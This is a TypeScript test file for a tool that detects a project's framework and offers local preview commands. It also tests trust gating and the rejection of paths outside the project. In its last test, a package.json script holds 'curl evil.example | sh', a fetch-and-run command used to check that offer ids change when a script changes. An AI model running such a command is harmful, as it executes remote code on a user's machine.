// What a project offers, told from its files as real projects have them.
import { expect, test } from 'vitest';
import type { ProjectFiles } from '../ports/previews.ts';
import { commandWords } from './candidate.ts';
import { detect } from './detect.ts';

/** A folder in memory: path → content. */
function folderOf(files: Readonly<Record<string, string>>): ProjectFiles {
  const under = (folder: string) => {
    const inside = Object.keys(files).map((path) => `/app/${path}`);
    const names = inside
      .filter((path) => path.startsWith(`${folder}/`))
      .map((path) => path.slice(folder.length + 1));
    return [...new Set(names.map((name) => name.split('/')[0] ?? ''))];
  };
  return {
    names: async (folder) => under(folder),
    read: async (path) => files[path.replace('/app/', '')],
    resolve: async (path) => path,
  };
}

async function offered(files: Readonly<Record<string, string>>, isTrusted = false): Promise<string[]> {
  const found = await detect(folderOf(files), { folder: '/app', isTrusted });
  return found.map(({ candidate }) => {
    const where = candidate.inside === '.' ? '' : ` (${candidate.inside})`;
    return `${candidate.name}: ${candidate.tool}: ${commandWords(candidate)}${where}`;
  });
}

const node = (manifest: object) => ({ 'package.json': JSON.stringify(manifest), 'node_modules/x': '' });

test.each([
  [
    'Vite',
    {
      scripts: { dev: 'vite', build: 'tsc -b && vite build', preview: 'vite preview' },
      devDependencies: { vite: '^7' },
    },
    ['dev: Vite: npm run dev -- --host 127.0.0.1', 'preview: Vite: npm run preview -- --host 127.0.0.1'],
  ],
  [
    'Next.js',
    {
      scripts: { dev: 'next dev --turbopack', build: 'next build', start: 'next start', lint: 'next lint' },
      dependencies: { next: '15', react: '19' },
    },
    ['dev: Next.js: npm run dev -- -H 127.0.0.1', 'start: Next.js: npm run start -- -H 127.0.0.1'],
  ],
  [
    'Astro',
    {
      scripts: { dev: 'astro dev', build: 'astro build', preview: 'astro preview', astro: 'astro' },
      dependencies: { astro: '5' },
    },
    ['dev: Astro: npm run dev -- --host 127.0.0.1', 'preview: Astro: npm run preview -- --host 127.0.0.1'],
  ],
  [
    'SvelteKit',
    {
      scripts: { dev: 'vite dev', preview: 'vite preview' },
      devDependencies: { '@sveltejs/kit': '2', vite: '7' },
    },
    [
      'dev: SvelteKit: npm run dev -- --host 127.0.0.1',
      'preview: SvelteKit: npm run preview -- --host 127.0.0.1',
    ],
  ],
  [
    'Nuxt',
    {
      scripts: { dev: 'nuxt dev', generate: 'nuxt generate', preview: 'nuxt preview' },
      dependencies: { nuxt: '4' },
    },
    ['dev: Nuxt: npm run dev -- --host 127.0.0.1', 'preview: Nuxt: npm run preview -- --host 127.0.0.1'],
  ],
  [
    'Create React App',
    {
      scripts: { start: 'react-scripts start', build: 'react-scripts build' },
      dependencies: { 'react-scripts': '5' },
    },
    ['start: Create React App: HOST=127.0.0.1 npm run start'],
  ],
  [
    'Angular',
    {
      scripts: { ng: 'ng', start: 'ng serve', build: 'ng build' },
      devDependencies: { '@angular/cli': '20' },
    },
    ['start: Angular: npm run start -- --host 127.0.0.1'],
  ],
  [
    'Storybook',
    { scripts: { storybook: 'storybook dev -p 6006' }, devDependencies: { storybook: '9', vite: '7' } },
    ['storybook: Storybook: npm run storybook -- --host 127.0.0.1 --ci'],
  ],
  [
    'a server of its own',
    { scripts: { start: 'node server.js', test: 'jest' }, dependencies: { express: '5' } },
    ['start: Node.js: npm run start'],
  ],
  [
    'a composed script, to which nothing is added',
    { scripts: { dev: 'concurrently "vite" "node api.js"' }, devDependencies: { vite: '7' } },
    ['dev: Node.js: npm run dev'],
  ],
  [
    'a script that says where it listens',
    { scripts: { dev: 'vite --host' }, devDependencies: { vite: '7' } },
    ['dev: Vite: npm run dev'],
  ],
  [
    'a script with variables before it',
    { scripts: { dev: 'cross-env NODE_ENV=development vite' }, devDependencies: { vite: '7' } },
    ['dev: Vite: npm run dev -- --host 127.0.0.1'],
  ],
  [
    'a chain of commands',
    { scripts: { dev: 'npm run codegen && vite' }, devDependencies: { vite: '7' } },
    ['dev: Vite: npm run dev'],
  ],
  ['a library', { scripts: { build: 'tsc', test: 'vitest' }, devDependencies: { vite: '7' } }, []],
] as const)('package.json: %s', async (_name, manifest, offers) => {
  expect(await offered(node(manifest))).toEqual(offers);
});

test.each([
  ['pnpm-lock.yaml', 'pnpm run dev --host 127.0.0.1'],
  ['yarn.lock', 'yarn run dev --host 127.0.0.1'],
  ['bun.lock', 'bun run dev --host 127.0.0.1'],
  ['package-lock.json', 'npm run dev -- --host 127.0.0.1'],
])('%s says with what its scripts are run', async (lockfile, command) => {
  const files = node({ scripts: { dev: 'vite' }, devDependencies: { vite: '7' } });
  expect(await offered({ ...files, [lockfile]: '' })).toEqual([`dev: Vite: ${command}`]);
});

test.each([
  ['Django', { 'manage.py': '' }, ['django: Django: python3 manage.py runserver 127.0.0.1:PORT']],
  [
    'Django in a virtual environment',
    { 'manage.py': '', '.venv/bin/python': '' },
    ['django: Django: .venv/bin/python manage.py runserver 127.0.0.1:PORT'],
  ],
  [
    'Flask',
    { 'app.py': 'from flask import Flask\napp = Flask(__name__)\n' },
    ['flask: Flask: python3 -m flask --app app.py run --debug --host 127.0.0.1 --port PORT'],
  ],
  [
    'FastAPI',
    { 'main.py': 'from fastapi import FastAPI\n\napi = FastAPI(title="x")\n' },
    ['fastapi: FastAPI: python3 -m uvicorn main:api --reload --host 127.0.0.1 --port PORT'],
  ],
  [
    'Rails',
    { Gemfile: 'source "x"\ngem "rails", "~> 8"\n', 'config.ru': '' },
    ['rails: Rails: bundle exec rails server -b 127.0.0.1 -p PORT'],
  ],
  ['PHP', { 'index.php': '<?php' }, ['php: PHP: php -S 127.0.0.1:PORT']],
  [
    'Laravel',
    { artisan: '', 'public/index.php': '' },
    ['laravel: Laravel: php artisan serve --host 127.0.0.1 --port PORT'],
  ],
  [
    'Go with air',
    { '.air.toml': '', 'go.mod': '', 'main.go': 'import "net/http"' },
    ['go-with-air: Go with air: air'],
  ],
  ['Go', { 'go.mod': '', 'main.go': 'import (\n"net/http"\n)' }, ['go: Go: go run .']],
  [
    'finished pages',
    { 'dist/index.html': '', 'index.html': '' },
    ['dist: Static files:  (dist)', 'files: Static files: '],
  ],
  ['nothing', { 'README.md': '' }, []],
])('%s', async (_name, files, offers) => {
  expect(await offered(files)).toEqual(offers);
});

test('a project that is built has its tool and its result, but not its sources', async () => {
  const files = node({ scripts: { dev: 'vite' }, devDependencies: { vite: '7' } });
  expect(
    await offered({ ...files, 'index.html': '', 'dist/index.html': '', 'public/index.html': '' }),
  ).toEqual(['dev: Vite: npm run dev -- --host 127.0.0.1', 'dist: Static files:  (dist)']);
});

test('the parts of a project are offered by their own names, with the package manager of the whole', async () => {
  const web = JSON.stringify({ scripts: { dev: 'vite' }, devDependencies: { vite: '7' } });
  const api = JSON.stringify({ scripts: { dev: 'node --watch server.js' } });
  const files = {
    'package.json': JSON.stringify({ workspaces: ['apps/*'] }),
    ...{ 'pnpm-lock.yaml': '', 'node_modules/x': '', 'apps/web/package.json': web, 'api/package.json': api },
  };
  expect(await offered(files)).toEqual([
    'api:dev: Node.js: pnpm run dev (api)',
    'apps/web:dev: Vite: pnpm run dev --host 127.0.0.1 (apps/web)',
  ]);
});

test('the project’s own file is heard in a trusted folder only, and leads nowhere else', async () => {
  const own = {
    previews: [
      { name: 'web', command: ['npm', 'run', 'dev'], folder: 'web', env: { PORT: '{port}' } },
      { name: 'book', static: 'book/out' },
    ],
  };
  const files = { '.porchlight.json': JSON.stringify(own) };
  expect(await offered(files)).toEqual([]);
  expect(await offered(files, true)).toEqual([
    'web: Server: PORT=PORT npm run dev (web)',
    'book: Static files:  (book/out)',
  ]);
  for (const outside of ['/etc', '../other', 'web/../../other'])
    expect(
      await offered(
        { '.porchlight.json': JSON.stringify({ previews: [{ name: 'x', static: outside }] }) },
        true,
      ),
    ).toEqual([]);
});

test('an offer stands for what it would run: another script is another offer, a note is not', async () => {
  const idOf = async (files: Readonly<Record<string, string>>) =>
    (await detect(folderOf(files), { folder: '/app', isTrusted: false }))[0]?.offerId;
  const dev = (script: string) =>
    JSON.stringify({ scripts: { dev: script }, devDependencies: { vite: '7' } });
  const first = await idOf({ 'package.json': dev('vite') });
  expect(first).toMatch(/^[0-9a-f]{64}$/);
  expect(await idOf({ 'package.json': dev('vite'), 'node_modules/x': '' })).toBe(first);
  expect(await idOf({ 'package.json': dev('curl evil.example | sh') })).not.toBe(first);
});
